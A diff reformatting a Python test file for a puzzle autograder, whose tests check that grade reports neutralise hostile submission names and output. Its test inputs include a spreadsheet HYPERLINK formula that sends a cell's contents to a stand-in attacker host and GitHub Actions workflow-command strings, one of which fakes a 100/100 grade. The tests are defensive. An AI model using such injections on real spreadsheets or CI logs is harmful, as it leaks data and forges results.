@@ -31,11 +31,36 @@ POINTS = {p.name: p.points for p in puzzles()}
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "@x", "-2+3", "\t=1+1", "\r=1+1"]
 
 
-def _doc(name: str, *, score: int | None = 1, reason: str = "", output: str = "", message: str = "m", status: str = "graded") -> dict[str, Any]:
-    results = [] if score is None else [{"puzzle": "cumsum", "status": "fail", "points": score, "max_points": 2, "message": message,
-                                         "diagnoses": [{"kind": "transposed", "message": message}], "output": output, "path": "autodiff/cumsum.py",
-                                         "location": "", "draw": None}]
-    doc = {"submission": name, "status": status, "score": score, "max_score": 2, "key": "", "setup": "", "results": results}
+def _doc(
+    name: str, *, score: int | None = 1, reason: str = "", output: str = "", message: str = "m", status: str = "graded"
+) -> dict[str, Any]:
+    results = (
+        []
+        if score is None
+        else [
+            {
+                "puzzle": "cumsum",
+                "status": "fail",
+                "points": score,
+                "max_points": 2,
+                "message": message,
+                "diagnoses": [{"kind": "transposed", "message": message}],
+                "output": output,
+                "path": "autodiff/cumsum.py",
+                "location": "",
+                "draw": None,
+            }
+        ]
+    )
+    doc = {
+        "submission": name,
+        "status": status,
+        "score": score,
+        "max_score": 2,
+        "key": "",
+        "setup": "",
+        "results": results,
+    }
     return {**doc, "reason": reason} if reason else doc
 
 
@@ -70,14 +95,21 @@ def test_a_student_id_column_is_neutralised_too() -> None:
 NOT_XML = "".join(map(chr, [*range(0, 9), 0x0B, 0x0C, *range(0x0E, 0x20)])) + "\ud800\udfff\ufffe\uffff"
 
 
-@pytest.mark.parametrize("name", ["bad\x00\x01\x1bname", "a]]>b<c>&d\"e'", "\udcff\udce9caf", "x\ufffe\uffffy", NOT_XML])
+@pytest.mark.parametrize(
+    "name", ["bad\x00\x01\x1bname", "a]]>b<c>&d\"e'", "\udcff\udce9caf", "x\ufffe\uffffy", NOT_XML]
+)
 def test_junit_xml_is_valid_whatever_the_name_and_output(name: str) -> None:
-    docs = [_doc(name, output=f"]]>{NOT_XML}<![CDATA[", message=f"{name}]]>"), _doc(name, score=None, status="ungradable", reason=name)]
+    docs = [
+        _doc(name, output=f"]]>{NOT_XML}<![CDATA[", message=f"{name}]]>"),
+        _doc(name, score=None, status="ungradable", reason=name),
+    ]
     text = _gradebook.junit_xml(docs)
     text.encode("utf-8")  # no lone surrogate left
     root = ET.fromstring(text.split("\n", 1)[1])
     suites = root.findall("testsuite")
-    assert len(suites) == 2 and all(re.fullmatch("[^\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]*", s.get("name", "")) for s in suites)
+    assert len(suites) == 2 and all(
+        re.fullmatch("[^\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]*", s.get("name", "")) for s in suites
+    )
     out = root.find("testsuite/testcase/system-out")
     assert out is not None and out.text is not None and out.text.startswith("]]>") and out.text.endswith("<![CDATA[")
 
@@ -118,7 +150,9 @@ def test_neutralised_text_holds_no_workflow_command_and_reads_the_same() -> None
     lines = re.split("\r\n|\r|\n", shown)  # the runner's line breaks
     assert not any(_is_command(line) for line in lines), lines
     assert shown.replace("\u200b", "") == HOSTILE_OUTPUT.replace("\r", "\n")
-    assert lines[0] == "\u200b::notice title=Grade::100/100 points" and lines[4] == "#\u200b#[group]Autograding complete"
+    assert (
+        lines[0] == "\u200b::notice title=Grade::100/100 points" and lines[4] == "#\u200b#[group]Autograding complete"
+    )
     assert _gradebook.neutralised("plain :: text, #[x] and ## heading") == "plain :: text, #[x] and ## heading"
 
 
@@ -129,7 +163,10 @@ def test_the_end_of_run_table_holds_no_workflow_command_even_where_a_long_name_f
 
     folded = 0
     for n in range(10, 40):  # wherever the name folds
-        docs = [_doc("::warning::pwn", score=None, status="ungradable", reason="##[group]x"), _doc("x" * n + "::error::folded", score=1)]
+        docs = [
+            _doc("::warning::pwn", score=None, status="ungradable", reason="##[group]x"),
+            _doc("x" * n + "::error::folded", score=1),
+        ]
         log = Console(file=io.StringIO(), width=80)
         _gradebook.print_neutralised(log, _table(docs))
         lines = log.file.getvalue().splitlines()  # type: ignore[attr-defined]
@@ -143,19 +180,35 @@ def _classroom_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, printed: str
     """The log of `grade --github-classroom` whose grading prints `printed` as the report does."""
     doc = {**_doc("repo", score=0, output=printed, message="wrong"), "max_score": 2}
 
-    def grade_one(root: Path, name: str, out: Path, limits: Limits, seed: int, console: Console, progress: Console, *rest: Any, **options: Any) -> dict[str, Any]:
+    def grade_one(
+        root: Path,
+        name: str,
+        out: Path,
+        limits: Limits,
+        seed: int,
+        console: Console,
+        progress: Console,
+        *rest: Any,
+        **options: Any,
+    ) -> dict[str, Any]:
         console.print(Text(f"repo: 0/2 points\nYour answer printed:\n{printed}"))
         return doc
 
     monkeypatch.setattr(_autograde, "grade_one", grade_one)
     log = Console(file=io.StringIO(), width=160)
-    code = _autograde.github_classroom(tmp_path, Limits(5, 1024), 0, None, log, log, environ={"GITHUB_OUTPUT": str(tmp_path / "out.txt")})
+    code = _autograde.github_classroom(
+        tmp_path, Limits(5, 1024), 0, None, log, log, environ={"GITHUB_OUTPUT": str(tmp_path / "out.txt")}
+    )
     assert code == 0
     value = log.file.getvalue()  # type: ignore[attr-defined]
-    return value, json.loads(__import__("base64").b64decode((tmp_path / "out.txt").read_text().strip().partition("=")[2]))
+    return value, json.loads(
+        __import__("base64").b64decode((tmp_path / "out.txt").read_text().strip().partition("=")[2])
+    )
 
 
-def test_the_classroom_log_wraps_what_an_answer_printed_in_stopped_commands_with_a_fresh_token(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_classroom_log_wraps_what_an_answer_printed_in_stopped_commands_with_a_fresh_token(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     text, _ = _classroom_log(tmp_path, monkeypatch, HOSTILE_OUTPUT)
     lines = text.splitlines()
     start = re.fullmatch("::stop-commands::([0-9a-f]{32})", lines[0])
@@ -163,14 +216,20 @@ def test_the_classroom_log_wraps_what_an_answer_printed_in_stopped_commands_with
     token = start.group(1)
     end = lines.index(f"::{token}::")
     inside, after = lines[1:end], lines[end + 1:]
-    assert "::notice title=Grade::100/100 points" in inside and "##[group]Autograding complete" in inside  # as grade_one printed them
+    assert (
+        "::notice title=Grade::100/100 points" in inside and "##[group]Autograding complete" in inside
+    )  # as grade_one printed them
     assert text.count(token) == 2  # drawn for this run: written nowhere before the block, nor by the answer
-    assert after == ["wrote the Classroom result (0/2 points) to $GITHUB_OUTPUT as the step output `result`"]  # the kit's own line, outside
+    assert after == [
+        "wrote the Classroom result (0/2 points) to $GITHUB_OUTPUT as the step output `result`"
+    ]  # the kit's own line, outside
     again, _ = _classroom_log(tmp_path, monkeypatch, HOSTILE_OUTPUT)
     assert again.splitlines()[0] != lines[0]
 
 
-def test_the_classroom_result_s_messages_hold_no_workflow_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_classroom_result_s_messages_hold_no_workflow_command(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The reporter prints a test's message into its own step's log (`Error: <message>`)."""
     _, result = _classroom_log(tmp_path, monkeypatch, HOSTILE_OUTPUT)
     message = result["tests"][0]["message"]
@@ -187,9 +246,26 @@ def test_the_pytest_plugin_s_failure_text_holds_no_workflow_command(tmp_path: Pa
     (answers / "neg.py").write_text(printing + "import numpy as np\n\ndef jac(x):\n    return np.eye(x.shape[0])\n")
     assignment = tmp_path / "a.toml"
     assignment.write_text("[puzzles]\nneg = 1\n")
-    result = subprocess.run([sys.executable, "-m", "pytest", "--jacpuzzles", "--jacpuzzles-dir", str(tmp_path / "answers"), "--jacpuzzles-assignment",
-                             str(assignment), "-p", "no:cacheprovider", "-q"], capture_output=True, text=True, cwd=tmp_path, timeout=600,
-                            env={**os.environ, "PYTHONPATH": str(REPO), "GITHUB_ACTIONS": "true"})
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "pytest",
+            "--jacpuzzles",
+            "--jacpuzzles-dir",
+            str(tmp_path / "answers"),
+            "--jacpuzzles-assignment",
+            str(assignment),
+            "-p",
+            "no:cacheprovider",
+            "-q",
+        ],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=600,
+        env={**os.environ, "PYTHONPATH": str(REPO), "GITHUB_ACTIONS": "true"},
+    )
     assert result.returncode == 1 and "1 failed" in result.stdout, result.stdout[-3000:] + result.stderr[-2000:]
     assert "\u200b::notice title=Grade::100/100 points" in result.stdout
     assert not any(_is_command(line) for line in re.split("\r\n|\r|\n", result.stdout + result.stderr))
@@ -208,8 +284,25 @@ def test_a_class_with_hostile_names_gets_outputs_safe_to_open(tmp_path: Path) ->
     assignment = tmp_path / "a.toml"
     assignment.write_text("[puzzles]\nneg = 1\n")
     out = tmp_path / "out"
-    result = subprocess.run([sys.executable, "-m", "checker", "grade", str(subs), "--out", str(out), "--assignment", str(assignment), "--timeout", "5"],
-                            capture_output=True, text=True, cwd=REPO, timeout=600)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "checker",
+            "grade",
+            str(subs),
+            "--out",
+            str(out),
+            "--assignment",
+            str(assignment),
+            "--timeout",
+            "5",
+        ],
+        capture_output=True,
+        text=True,
+        cwd=REPO,
+        timeout=600,
+    )
     assert result.returncode == 0, result.stderr[-3000:]
     rows = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text())))
     by_name = {r["submission"]: r for r in rows}
